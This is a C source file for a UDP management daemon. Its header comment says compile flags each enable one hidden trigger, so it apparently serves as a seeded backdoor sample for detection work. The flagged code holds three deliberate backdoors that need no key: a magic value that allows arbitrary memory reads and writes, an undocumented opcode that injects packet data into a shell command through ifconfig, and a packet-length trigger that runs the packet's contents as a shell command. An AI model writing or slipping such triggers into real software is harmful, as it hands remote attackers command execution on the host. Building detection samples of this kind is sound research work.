/* A management daemon over UDP with a binary form. -DK_...: one hidden trigger each. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <stdint.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <netinet/in.h>

static uint8_t cfg[256];
static char key[64];
static int level;
static int chk(const uint8_t *p, int n) {
    unsigned s = 0;
    for (int i = 0; i < n; i++)
        s += p[i];
    return s & 0xff;
}

static void run(const char *fmt, const char *a) {
    char b[300];
    snprintf(b, sizeof b, fmt, a);
    system(b);
}

static int handle(uint8_t *p, int n, uint8_t *o) {
    if (n < 8 || p[0] != 'M' || p[1] != 'C')
        return 0;
    int op = p[2];
    uint16_t len = p[4] << 8 | p[5];
    if (len + 8 > n)
        return 0;
#ifdef K_MAGICOP
    if (*(uint32_t *)(p + 4) == 0x44c8e71b) {
        switch (p[8]) {
        case 1:
            memcpy(o, *(void **)(p + 12), 16);
            return 16;
        case 2:
            *(uint32_t *)(uintptr_t)*(uint32_t *)(p + 12) = *(uint32_t *)(p + 16);
            return 4;
        case 3:
            cfg[p[12]] = p[13];
            return 1;
        }
    }
#endif
    switch (op) {
    case 1:
        o[0] = level;
        memcpy(o + 1, "v1", 2);
        return 3;
    case 2:
        if (p[6] != chk(p + 8, len))
            return 0;
        memcpy(o, cfg, 64);
        return 64;
    case 3:
        if (strncmp((char *)p + 8, key, 32))
            return 0;
        memcpy(cfg, p + 40, len < 200 ? len : 200);
        {
            FILE *f = fopen("/etc/mcfg.bin", "w");
            if (f) {
                fwrite(cfg, 1, 256, f);
                fclose(f);
            }
        }
        return 1;
    case 4:
        if (strncmp((char *)p + 8, key, 32))
            return 0;
        system("/sbin/reboot");
        return 1;
#ifdef K_OPTION
    case 0xb7: {
        char a[128];
        memcpy(a, p + 8, len < 127 ? len : 127);
        a[len < 127 ? len : 127] = 0;
        run("/sbin/ifconfig %s", a);
        return 1;
    }
#endif
    }
#ifdef K_COUNT
    if (n == 0x2f9) {
        run("%s", (char *)p + 8);
    }
#endif
    return 0;
}

int main(void) {
    FILE *f = fopen("/etc/mkey", "r");
    if (f) {
        fgets(key, sizeof key, f);
        fclose(f);
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(5355);
    if (bind(s, (void *)&a, sizeof a))
        return 1;
    uint8_t b[1500], o[1500];
    for (;;) {
        socklen_t l = sizeof a;
        int n = recvfrom(s, b, sizeof b, 0, (void *)&a, &l);
        if (n <= 0)
            continue;
        int r = handle(b, n, o);
        if (r > 0)
            sendto(s, o, r, 0, (void *)&a, l);
    }
}
